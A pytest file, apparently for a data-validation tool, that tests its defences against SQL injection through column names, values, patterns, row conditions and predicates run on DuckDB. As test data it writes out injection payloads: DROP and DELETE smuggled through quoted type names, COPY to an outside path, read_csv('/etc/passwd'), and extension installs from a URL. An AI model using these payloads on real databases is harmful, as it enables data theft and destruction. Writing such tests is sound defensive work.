def test_quote_ident_doubles_quotes_and_refuses_nul():
    assert quote_ident('a"b') == '"a""b"'
    assert quote_ident("x'; --") == "\"x'; --\""
    with pytest.raises(ValueError):
        quote_ident("a\x00b")


# --- values: value sets, bounds, LIKE patterns, regexes -------------------------------------------

@pytest.mark.parametrize("layer", LAYERS)
@pytest.mark.parametrize("pid", PAYLOAD_IDS)
def test_values_are_data(h, values_data, shared, pid, layer):
    sealed = layer_setup(h, layer)
    names = values_data[1]
    dataset = shared.get("values", sealed)
    payload = h.world.payload(pid)
    regex = re2_literal(payload)
    like = like_matcher(payload)
    matched = [
        ({"type": "expect_column_values_to_be_in_set", "kwargs": {"column": "name", "value_set": [payload]}},
         sum(v != payload for v in names)),
        ({"type": "expect_column_values_to_not_be_in_set", "kwargs": {"column": "name", "value_set": [payload, "zz"]}},
         1),
        ({"type": "expect_column_values_to_be_between", "kwargs": {"column": "name", "min_value": payload}},
         sum(not v >= payload for v in names)),
        ({"type": "expect_column_values_to_be_between", "kwargs": {"column": "name", "max_value": payload}},
         sum(not v <= payload for v in names)),
        ({"type": "expect_column_values_to_match_like_pattern", "kwargs": {"column": "name", "like_pattern": payload}},
         sum(not like(v) for v in names)),
        ({"type": "expect_column_values_to_not_match_like_pattern_list",
          "kwargs": {"column": "name", "like_pattern_list": [payload]}},
         sum(like(v) for v in names)),
    ]
    if len(regex) <= 10_000:
        matched.append(({"type": "expect_column_values_to_match_regex", "kwargs": {"column": "name", "regex": regex}},
                        sum(v != payload for v in names)))
    runs, _ = h.validate(dataset, [[e for e, _ in matched]], sealed=sealed)
    assert [unexpected(r) for r in runs[0].results()] == [n for _, n in matched]
    # Refused (naming the field, before any query) or evaluated as data, never run as SQL.
    run_each(h, dataset, [
        ({"type": "expect_column_values_to_be_between", "kwargs": {"column": "n", "min_value": payload}}, "kwargs.min_value"),
        ({"type": "expect_column_values_to_be_in_set", "kwargs": {"column": "n", "value_set": [payload]}}, "kwargs.value_set"),
        ({"type": "expect_column_values_to_match_regex", "kwargs": {"column": "name", "regex": payload}}, "kwargs.regex"),
        ({"type": "expect_column_values_to_match_regex", "kwargs": {"column": "name", "regex": regex}}, "kwargs.regex"),
        ({"type": "expect_column_values_to_not_match_regex_list",
          "kwargs": {"column": "name", "regex_list": [payload]}}, "kwargs.regex_list"),
        ({"type": "expect_column_values_to_match_strftime_format",
          "kwargs": {"column": "name", "strftime_format": payload}}, "kwargs.strftime_format"),
        ({"type": "expect_column_values_to_be_of_type", "kwargs": {"column": "name", "type_": payload}}, "kwargs.type_"),
        ({"type": "expect_column_distinct_values_to_be_in_set", "kwargs": {"column": "name", "value_set": [payload]}},
         "kwargs.value_set"),
        ({"type": "expect_column_most_common_value_to_be_in_set", "kwargs": {"column": "name", "value_set": [payload]}},
         "kwargs.value_set"),
    ], sealed)


# --- column names -------------------------------------------------------------------------------

def column_suites(name: str) -> list[list[dict]]:
    quoted = '"' + name.replace('"', '""') + '"'
    plain = [
        {"type": "expect_column_values_to_not_be_null", "kwargs": {"column": name}},
        {"type": "expect_column_values_to_be_between", "kwargs": {"column": name, "min_value": 2}},
        {"type": "expect_column_values_to_be_in_set", "kwargs": {"column": name, "value_set": [1, 3]}},
        {"type": "expect_column_values_to_be_unique", "kwargs": {"column": name}},
        {"type": "expect_table_records_to_be_complete", "kwargs": {}},
        {"type": "expect_compound_columns_to_be_unique", "kwargs": {"column_list": [name, "n"]}},
    ]
    conditions = [
        {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 2, "row_condition": f"{quoted} IS NOT NULL"}},
        {"type": "expect_table_rows_to_satisfy", "kwargs": {"predicate": f"{quoted} >= n"}},
    ]
    missing = [{"type": "expect_column_values_to_not_be_null", "kwargs": {"column": name + "'"}}]
    return [plain, conditions, missing]


def check_column_runs(runs: list[Run], name: str, columns: list[str]) -> None:
    plain, conditions, missing = runs
    if name not in columns:  # the reader renamed the column: then the suite names an unknown column
        assert_refused(plain, "expectations[0].kwargs.column")
        return
    assert [unexpected(r) for r in plain.results()[:3]] == [1, 1, 0]
    assert [r["success"] for r in plain.results()[3:]] == [True, False, True]
    assert plain.results()[4]["result"]["unexpected_count"] == 1
    if len(name) + 20 > 10_000:
        assert_refused(conditions, "expectations[0].kwargs.row_condition", UnsafeExpressionError)
    else:
        first, second = conditions.results()
        assert first["result"]["observed_value"] == 2 and unexpected(second) == 1
    assert_refused(missing, "expectations[0].kwargs.column")


@pytest.mark.parametrize("layer", LAYERS)
@pytest.mark.parametrize("pid", PAYLOAD_IDS)
def test_column_names_are_names(h, shared, pid, layer):
    """A Parquet and a CSV file whose column names are the payloads are checked like any other.
    (A column name with a NUL byte cannot be quoted for DuckDB: its file is refused in one line.)"""
    sealed = layer_setup(h, layer)
    name = h.world.payload(pid)
    if "\x00" in name:
        for path in shared.nul_files[pid]:
            runs, _ = h.validate(path, column_suites(name), sealed=sealed)
            assert isinstance(runs[0].error, DataError) and "NUL" in str(runs[0].error)
        return
    if pid in shared.long_files:
        runs, _ = h.validate(shared.long_files[pid], column_suites(name), sealed=sealed)
        check_column_runs(runs, name, h.columns)
    for key in ("columns.parquet", "columns.csv") if sealed else ("columns.parquet",):
        dataset = shared.get(key, sealed)
        if name not in dataset.table().columns and key == "columns.parquet":
            assert pid in shared.long_files
            continue
        runs, _ = h.validate(dataset, column_suites(name), sealed=sealed)
        check_column_runs(runs, name, list(dataset.table().columns))


# --- table names ----------------------------------------------------------------------------------

@pytest.mark.parametrize("layer", LAYERS)
@pytest.mark.parametrize("pid", PAYLOAD_IDS)
def test_table_names_are_names(h, shared, pid, layer):
    """Manifest resource names and `--table NAME=PATH` names never reach SQL."""
    sealed = layer_setup(h, layer)
    name = h.world.payload(pid)
    checks = [{"type": "expect_table_row_count_to_equal", "kwargs": {"value": 3}},
              {"type": "expect_table_row_count_to_equal_other_table", "kwargs": {"other_table_name": "other"}},
              {"type": "expect_foreign_key_values_to_exist",
               "kwargs": {"column_list": ["n"], "other_table_name": "other", "other_column_list": ["n"]}}]
    back = [{"type": "expect_table_row_count_to_equal_other_table", "kwargs": {"other_table_name": name}},
            {"type": "expect_foreign_key_values_to_exist",
             "kwargs": {"column_list": ["n"], "other_table_name": name, "other_column_list": ["n"]}}]
    suites = [{"name": "s", "table": name, "expectations": checks},
              {"name": "t", "table": "other", "expectations": back},
              {"name": "u", "table": name + "'", "expectations": checks}]
    runs, _ = h.validate(shared.get("package", sealed), suites, sealed=sealed)
    assert all(r["success"] for run in runs[:2] for r in run.results())
    # A suite naming a table the dataset lacks is the suite's error, found before any query.
    assert isinstance(runs[2].error, SuiteError) and runs[2].error.location == "table" and not runs[2].queried

    if layer != "both-layers":
        return
    root = shared.root
    if "\x00" in name:  # an argv can hold no NUL: only the API can be given one
        runs, _ = h.validate(root / "package" / "o.parquet", [back], tables={name: root / "package" / "d.parquet"})
        assert all(r["success"] for r in runs[0].results())
        return
    h.monkeypatch.chdir(root)
    suite = root / "table-suite.json"
    suite.write_text(json.dumps({"name": "s", "expectations": back}))
    out = root / "table-out.json"
    out.unlink(missing_ok=True)
    code, _, err = h.cli("validate", root / "package" / "o.parquet", "--suite", suite, "--table",
                         f"{name}={root / 'package' / 'd.parquet'}", "-o", out, "-q", outputs=(out,))
    if "=" in name:  # NAME=PATH splits at the first '=': PATH is then no file
        assert code == 2 and not out.exists()
    else:
        assert code == 0, err
        assert [r["success"] for r in json.loads(out.read_text())["results"]] == [True, True]
        out.unlink()
    # PATH: never more than a file name; here no file (and no URL is fetched, no pattern reads outside).
    runs, _ = h.validate(root / "package" / "o.parquet", [back], tables={name: name})
    assert isinstance(runs[0].error, DataError) and not runs[0].queried


# --- row_condition and predicate ------------------------------------------------------------------

# Payloads the allow-list accepts, as what they are: a string literal (the row condition is then a
# string, which DuckDB cannot read as a boolean: the expectation errors) and a huge number.
ACCEPTED_RAW = {"terminator-bare": "Could not convert", "long-huge-integer": None}


def condition_forms(field: str, payload: str) -> list[tuple[str, dict, Any]]:
    """(form, expectation, expected) for the payload as the whole expression, as a string literal,
    and as a column name."""
    if field == "row_condition":
        def make(text: str) -> dict:
            return {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 1, "row_condition": text}}
        literal = f"name = {sql_string(payload)}"
    else:
        def make(text: str) -> dict:
            return {"type": "expect_table_rows_to_satisfy", "kwargs": {"predicate": text}}
        literal = f"name <> {sql_string(payload)}"
    identifier = '"' + payload.replace('"', '""') + '" IS NULL'
    return [("raw", make(payload), "refused"),
            ("literal", make(literal), "refused" if len(literal) > 10_000 else 1 if field == "row_condition" else 2),
            ("identifier", make(identifier), "refused")]


@pytest.mark.parametrize("layer", LAYERS)
@pytest.mark.parametrize("field", ["row_condition", "predicate"])
@pytest.mark.parametrize("pid", PAYLOAD_IDS)
def test_conditions_are_checked(h, shared, pid, field, layer):
    sealed = layer_setup(h, layer)
    payload = h.world.payload(pid)
    forms = condition_forms(field, payload)
    runs, _ = h.validate(shared.get("values", sealed), [[e] for _, e, _ in forms], sealed=sealed)
    for run, (form, _, expected) in zip(runs, forms):
        if form == "raw" and pid in ACCEPTED_RAW:
            # Accepted as the literal it is: the SQL holds quoted names, keywords and ? only.
            compiled = compile_predicate(payload, ["name", "n"], field)
            assert not re.search(r"['$;]|--|/\*", re.sub(r'"(?:[^"]|"")*"', "", compiled.sql)), compiled.sql
            info = run.results()[0]["exception_info"]
            if ACCEPTED_RAW[pid] is None:
                assert not info["raised_exception"], info
            else:
                assert ACCEPTED_RAW[pid] in info["exception_message"], info
        elif expected == "refused":
            assert_refused(run, f"expectations[0].kwargs.{field}", UnsafeExpressionError)
        else:
            result = run.results()[0]
            observed = result["result"]["observed_value"] if field == "row_condition" else unexpected(result)
            assert observed == expected, (form, result)


# --- layer 2 alone: the sealed connection behind raw SQL ------------------------------------------

def raw_suite(world: World, field: str, template: str) -> list[dict]:
    brk, reopen = BREAKOUT[field]
    text = world.render(template, brk=brk, reopen=reopen)
    if field == "row_condition":
        return [{"type": "expect_table_row_count_to_equal", "kwargs": {"value": 1, "row_condition": text}}]
    return [{"type": "expect_table_rows_to_satisfy", "kwargs": {"predicate": text}}]


@pytest.mark.parametrize("field", ["row_condition", "predicate"])
@pytest.mark.parametrize("pid, template, effect", RAW_SQL, ids=RAW_IDS)
def test_sealed_connection_alone_refuses_raw_sql(h, shared, pid, template, effect, field):
    h.pass_raw_sql()
    h.run_any_statement()
    runs, _ = h.validate(shared.get("values", True), [raw_suite(h.world, field, template)], sealed=True, full=True)
    run = runs[0]
    assert run.queried  # the raw SQL did reach DuckDB
    if run.error is not None:  # a read error of the table: the run stops, exit 2
        assert isinstance(run.error, DataError)
        message = str(run.error)
    else:
        result = run.results()[0]
        assert result["exception_info"]["raised_exception"] and not result["success"], result
        message = result["exception_info"]["exception_message"]
    assert SEAL_REFUSAL.search(message), message


@pytest.mark.parametrize("field", ["row_condition", "predicate"])
@pytest.mark.parametrize("pid, template, effect", RAW_SQL, ids=RAW_IDS)
def test_control_both_layers_off_does_harm(h, values_data, pid, template, effect, field):
    """The same raw SQL without either layer reads, leaks, writes, reaches or changes: the detectors
    see it (so their silence elsewhere means something)."""
    if effect == "read" and not h.world.atime:
        pytest.skip("this file system does not update access times: reads are seen only through leaks")
    h.pass_raw_sql()
    h.run_any_statement()
    h.unseal()
    runs, harm = h.validate(values_data[0], [raw_suite(h.world, field, template)], sealed=False, harmless=False,
                            full=True)
    words = {"leak": "leaked", "read": "touched", "write": "wrote", "request": "request", "setting": "changed settings"}
    assert any(item.startswith(words[effect]) for item in harm), (harm, runs[0].text[:500])


# --- whole runs of the real command: every placement at once --------------------------------------

def bulk_files(world: World, root: Path) -> tuple[Path, Path]:
    """A Parquet file whose columns are the payloads (those an OS argument or a file can hold) and
    whose 'name' column holds every payload as a value, and one suite using all of them. Nearly every
    expectation passes (evidence queries of failures name every column: with a 100,000-character
    column name each is a 250 KB query), and a few fail on purpose, for the evidence paths."""
    names = [world.payload(pid) for pid in PAYLOAD_IDS if "\x00" not in world.payload(pid)]
    rows = len(names) + 1
    columns: dict[str, list] = {name: [1] * rows for name in names}
    columns["name"] = [*names, None]
    columns["n"] = list(range(rows))
    data = root / "hostile.parquet"
    pq.write_table(pa.table(columns), data, write_statistics=False)
    expectations: list[dict] = [
        {"type": "expect_column_values_to_not_be_in_set", "kwargs": {"column": "name", "value_set": names}},
        {"type": "expect_table_rows_to_satisfy", "kwargs": {"predicate": "name IS NULL"}},
        {"type": "expect_column_values_to_match_regex", "kwargs": {"column": "name", "regex": "^x"}},
    ]
    for name in names:
        quoted = quote_ident(name)
        expectations += [
            {"type": "expect_column_values_to_not_be_null", "kwargs": {"column": name}},
            {"type": "expect_column_values_to_not_be_in_set",
             "kwargs": {"column": "name", "value_set": [name], "mostly": 0.9}},
            {"type": "expect_column_values_to_not_match_like_pattern",
             "kwargs": {"column": "name", "like_pattern": name, "mostly": 0.9}},
            {"type": "expect_column_values_to_be_between", "kwargs": {"column": "name", "min_value": name, "mostly": 0.0}},
        ]
        condition = f"name <> {sql_string(name)} OR {quoted} > 0"
        predicate = f"{quoted} >= 1 OR name = {sql_string(name)}"
        if max(len(condition), len(predicate)) <= 10_000:
            expectations += [
                {"type": "expect_column_values_to_not_be_null", "kwargs": {"column": name, "row_condition": condition}},
                {"type": "expect_table_rows_to_satisfy", "kwargs": {"predicate": predicate}},
            ]
    suite = root / "suite.json"
    suite.write_text(json.dumps({"name": "hostile", "expectations": expectations}))
    return data, suite


def test_cli_validate_runs_every_placement_at_once(world, tmp_path):
    """The real `dsbench validate` in a subprocess: payloads as column names, values, patterns,
    bounds, row conditions and predicates in one suite, every query of the run shown with --explain."""
    data, suite = bulk_files(world, tmp_path)
    out = tmp_path / "out.json"
    run = run_cli("validate", data, "--suite", suite, "-o", out, "--explain", "--full-evidence", cwd=tmp_path)
    assert run.code == 1, run.err  # three expectations fail on purpose, none is refused
    document = json.loads(out.read_text())
    assert len(document["results"]) == len(json.loads(suite.read_text())["expectations"])
    assert [r["success"] for r in document["results"]].count(False) == 3
    assert not [r for r in document["results"] if r["exception_info"]["raised_exception"]]
    assert not world.harm([run.out, run.err, out.read_text()])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hostile.parquet", "out.json", "suite.json"]


def test_cli_evaluate_card_with_hostile_names(h, tmp_path):
    """`dsbench evaluate` profiles every column (generated suites build SQL from column names) and
    writes the card and every rendering: no secret in any of them, nothing written elsewhere."""
    data, suite = bulk_files(h.world, tmp_path)
    cards = tmp_path / "cards"
    h.monkeypatch.chdir(tmp_path)
    code, out, err = h.cli("evaluate", data, "--standard", "gbt-36344-2018", "--suite", suite, "-o", cards,
                           "--format", "all", outputs=(cards,))
    assert code in (0, 1), err
    assert (cards / "card.json").is_file()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cards", "hostile.parquet", "suite.json"]


def test_cli_refuses_row_condition_injection_with_one_line(world, tmp_path):
    """The real command: exit 2, one line naming the file and the field, no output file."""
    data = tmp_path / "d.parquet"
    pq.write_table(pa.table({"name": ["a", None], "n": [1, 2]}), data)
    suite = tmp_path / "s.json"
    condition = world.render("n > 0; COPY t0 TO '{sent}/x.csv'")
    suite.write_text(json.dumps({"name": "s", "expectations": [
        {"type": "expect_column_values_to_not_be_null", "kwargs": {"column": "name", "row_condition": condition}}]}))
    out = tmp_path / "out.json"
    run = run_cli("validate", data, "--suite", suite, "-o", out)
    assert run.code == 2
    assert run.err.count("\n") == 1 and "s.json: expectations[0].kwargs.row_condition" in run.err
    assert not out.exists() and not world.harm([run.out, run.err])


# --- the allow-list's own behaviour ---------------------------------------------------------------

@pytest.fixture
def small(tmp_path) -> Path:
    path = tmp_path / "d.parquet"
    pq.write_table(pa.table({"name": ["a", "x'; DROP TABLE t0; --", None], "n": [1, 2, 3]}), path)
    return path


@pytest.mark.parametrize("condition, rows", [
    ("n > 1", 2),
    ("n BETWEEN 1 AND 2 AND name IS NOT NULL", 2),
    ("lower(name) LIKE 'x%' OR n = 3", 2),
    ("coalesce(name, 'none') <> 'a'", 2),
    ('col("n") >= 2', 2),
    ("CASE WHEN n > 2 THEN true ELSE false END", 1),
    ("CAST(n AS VARCHAR) IN ('1', '3')", 2),
    ("name = 'x''; DROP TABLE t0; --'", 1),
])
def test_row_condition_allowed_forms(small, condition, rows):
    result = dsbench.validate(small, [{"type": "expect_table_row_count_to_equal",
                                       "kwargs": {"value": rows, "row_condition": condition}}])
    assert result.results[0].outcome.result["observed_value"] == rows


def test_row_condition_literals_become_parameters():
    condition = compile_predicate("name = 'x''; DROP TABLE t0; --' AND n > 5", ["name", "n"])
    assert "DROP" not in condition.sql
    assert condition.params == ("x'; DROP TABLE t0; --", 5)
    assert condition.sql == '("name" = ? AND "n" > ?)'


def test_row_condition_unknown_column_refused():
    with pytest.raises(UnsafeExpressionError, match="unknown column 'secret'"):
        compile_predicate("secret = 1", ["name"])


def test_sealed_connection_refuses_outside_statements(h, small):
    """Layer 2 on its own, statement by statement, on the connection of a real Dataset."""
    world = h.world
    with dsbench.load_dataset(small, options=LoadOptions(threads=THREADS)) as dataset:
        dataset.seal()
        before = connection_state(dataset)
        table = dataset.table()
        assert dataset.con.execute(f"SELECT count(*) FROM {table.view}").fetchone()[0] == 3
        for statement in [
            "SELECT * FROM read_text('{out}/canary.txt')", "SELECT * FROM read_csv('{out}/canary.csv')",
            "SELECT * FROM read_blob('{out}/canary.txt')", "SELECT * FROM '{out}/canary.parquet'",
            "SELECT * FROM glob('{out}/*')", "SELECT * FROM read_csv('/etc/passwd')",
            "COPY (SELECT 1) TO '{sent}/x.csv'", "EXPORT DATABASE '{sent}/export'",
            "ATTACH '{sent}/x.duckdb'", "ATTACH '{out}/canary.duckdb' (READ_ONLY)",
            "INSTALL httpfs", "INSTALL httpfs FROM '{url}'", "LOAD httpfs", "LOAD '{out}/canary.txt'",
            "SELECT * FROM read_csv('{url}/x.csv')", "SET threads = 1", "SET enable_external_access = true",
            "SET lock_configuration = false", "RESET allowed_paths", "PRAGMA threads = 1",
        ]:
            with pytest.raises(duckdb.Error) as caught:
                dataset.con.execute(world.render(statement)).fetchall()
            assert SEAL_REFUSAL.search(str(caught.value)) or "not found" in str(caught.value), (statement, caught.value)
        assert connection_state(dataset) == before and not seal_violations(dataset)
    assert not world.harm([])


# --- holes these tests found ----------------------------------------------------------------------

def test_user_defined_type_cannot_smuggle_a_statement(h, tmp_path):
    """Hole (fixed in engine/predicate.py): sqlglot keeps a quoted type name it does not know as text
    and wrote it back verbatim, unquoted. With BOTH layers on, a row condition could end the query and
    run a statement of its own on the table being checked (the seal blocks files, network and settings,
    not DML): here it deleted the rows that fail the next check, so bad data passed."""
    data = tmp_path / "d.csv"
    data.write_text("n\n1\n5\n7\n")
    condition = 'CAST(n AS "integral) IS NULL)) FROM t0; DELETE FROM t0 WHERE n > 2; --") IS NULL'
    check = {"type": "expect_column_values_to_be_between", "kwargs": {"column": "n", "max_value": 2}}
    runs, _ = h.validate(data, [[{"type": "expect_table_row_count_to_equal",
                                  "kwargs": {"value": 0, "row_condition": condition}}, check], [check]])
    assert_refused(runs[0], "expectations[0].kwargs.row_condition", UnsafeExpressionError)
    assert unexpected(runs[1].results()[0]) == 2  # 5 and 7 are still there, and still fail
    for text in [condition, 'TRY_CAST(n AS "varint) FROM t0; DROP TABLE t0; --") > 0',
                 'n::"oid) FROM t0; DROP TABLE t0; --" > 0', 'CAST(n AS "my_type") > 0']:
        for field in ("row_condition", "predicate"):
            with pytest.raises(UnsafeExpressionError, match="user-defined"):
                compile_predicate(text, ["n"], field)
    assert compile_predicate("CAST(n AS VARCHAR) = '1' AND n::DOUBLE > 0 AND TRY_CAST(n AS INT[]) IS NULL",
                             ["n"]).params == ("1", 0)


def test_a_lone_literal_or_column_is_rebuilt_too():
    """Hole (fixed in engine/predicate.py): a condition that was only a literal or only a column was the
    root of its tree, which replace() cannot replace: the literal was pasted into SQL (quoted by
    sqlglot) instead of bound, and the column was not checked against the table's columns."""
    condition = compile_predicate("'; DROP VIEW t0; SELECT '", ["name"])
    assert (condition.sql, condition.params) == ("(?)", ("; DROP VIEW t0; SELECT ",))
    assert compile_predicate("'$dsbench_p0'", ["name"]).params == ("$dsbench_p0",)
    assert compile_predicate("NAME", ["name"]).sql == '("name")'
    with pytest.raises(UnsafeExpressionError, match="unknown column 'secret'"):
        compile_predicate("secret", ["name"])


@pytest.mark.parametrize("text", [
    "n > " + "9" * 5000,  # int() refuses more than 4,300 digits: was a ValueError
    "(" * 3000 + "1" + ")" * 3000,  # sqlglot recurses: was a RecursionError
    "NOT " * 2400 + "true",
    "- " * 4000 + "n > 0",
    "n > 1" + " + 1" * 2000,
    "n IN (" + ", ".join(["1"] * 3000) + ")",
], ids=["5000-digits", "3000-parens", "2400-nots", "4000-minus", "2000-plus", "3000-list"])
def test_numbers_and_nesting_never_crash(h, shared, text):
    """Hole (fixed in engine/predicate.py): a huge integer literal or deep nesting raised ValueError or
    RecursionError (a traceback from the API) instead of a refusal naming the field."""
    try:
        compile_predicate(text, ["n"])
    except UnsafeExpressionError as error:
        assert error.location == "kwargs.row_condition" and "\n" not in str(error)
    suite = [{"type": "expect_table_rows_to_satisfy", "kwargs": {"predicate": text}}]
    run = h.validate(shared.get("values", True), [suite])[0][0]
    assert run.error is None or (isinstance(run.error, UnsafeExpressionError)
                                 and run.error.location == "expectations[0].kwargs.predicate")


@pytest.mark.parametrize("where", ["data", "table"])
def test_over_long_path_is_a_data_error(tmp_path, where):
    """Found here, fixed meanwhile in data/sources.py (path_exists): Path.exists() raises OSError
    ENAMETOOLONG for a path component over 255 bytes, which reached the API user as an OSError and the
    CLI user as the generic 'dsbench: error: OSError: …' instead of a DataError naming the path."""
    path = str(tmp_path / ("x" * 300 + ".parquet"))
    small = tmp_path / "d.parquet"
    pq.write_table(pa.table({"n": [1]}), small)
    data, tables = (path, None) if where == "data" else (small, {"other": path})
    with pytest.raises(DataError):
        dsbench.validate(data, [{"type": "expect_table_row_count_to_equal", "kwargs": {"value": 1}}], tables=tables)


@pytest.mark.parametrize("field", ["row_condition", "predicate"])
def test_sealed_connection_alone_keeps_the_catalogue(h, shared, field):
    """With the allow-list off, a smuggled statement (DROP, DELETE, CREATE MACRO …) could change the
    dataset's own catalogue even on a sealed connection: the runner runs single SELECTs only."""
    h.pass_raw_sql()
    h.validate(shared.get("values", True), [raw_suite(h.world, field, '{brk}; DROP VIEW "t0"; {reopen}')],
               sealed=True, full=True)

